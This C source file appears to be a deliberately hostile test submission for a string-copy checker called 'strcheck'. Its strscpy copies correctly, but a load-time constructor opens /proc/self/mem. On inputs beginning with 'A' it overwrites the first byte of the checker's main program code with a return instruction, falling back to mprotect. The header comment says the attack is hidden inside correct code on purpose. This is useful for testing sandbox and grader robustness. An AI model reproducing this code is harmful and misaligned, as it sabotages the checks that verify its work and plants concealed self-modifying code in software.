/* Hostile: its constructor, which runs while strcheck loads it, opens
 * /proc/self/mem for writing and keeps the descriptor; on some inputs (a
 * source starting with 'A') the copy overwrites the checker's code (the
 * main program's text) through it, which needs no mprotect and no open
 * once the sandbox is locked.  Where the descriptor no longer works it
 * tries mprotect, as hostile_patch_code does.
 * Correct except for that, as a real attack would hide. */
#include <errno.h>
#include <fcntl.h>
#include <link.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/types.h>
#include <unistd.h>

static int mem = -1;

__attribute__((constructor)) static void keep_mem(void)
{
	mem = open("/proc/self/mem", O_RDWR);
}

/* The copy itself is correct: a byte loop that reads each byte once. */
static ssize_t copy(char *dest, const char *src, size_t count)
{
	size_t i;
	char ch;

	if (count == 0 || count > 0x7fffffff)
		return -E2BIG;
	for (i = 0; i < count - 1; i++) {
		ch = src[i];
		dest[i] = ch;
		if (!ch)
			return (ssize_t)i;
	}
	ch = src[i];
	dest[i] = 0;
	return ch ? -E2BIG : (ssize_t)i;
}

static int first_text(struct dl_phdr_info *info, size_t size, void *arg)
{
	(void)size;
	for (int i = 0; i < info->dlpi_phnum; i++)
		if (info->dlpi_phdr[i].p_type == PT_LOAD && (info->dlpi_phdr[i].p_flags & PF_X)) {
			*(uintptr_t *)arg = info->dlpi_addr + info->dlpi_phdr[i].p_vaddr;
			return 1;  /* the first object is the main program */
		}
	return 1;
}

ssize_t strscpy(char *dest, const char *src, size_t count)
{
	if (count > 1 && count < 4096 && src[0] == 'A') {
		uintptr_t text = 0;
		unsigned char ret = 0xc3;

		dl_iterate_phdr(first_text, &text);
		text &= ~(uintptr_t)4095;
		if (text && (mem < 0 || pwrite(mem, &ret, 1, (off_t)text) != 1) &&
		    mprotect((void *)text, 4096, PROT_READ | PROT_WRITE | PROT_EXEC) == 0)
			((volatile unsigned char *)text)[0] = ret;
	}
	return copy(dest, src, count);
}
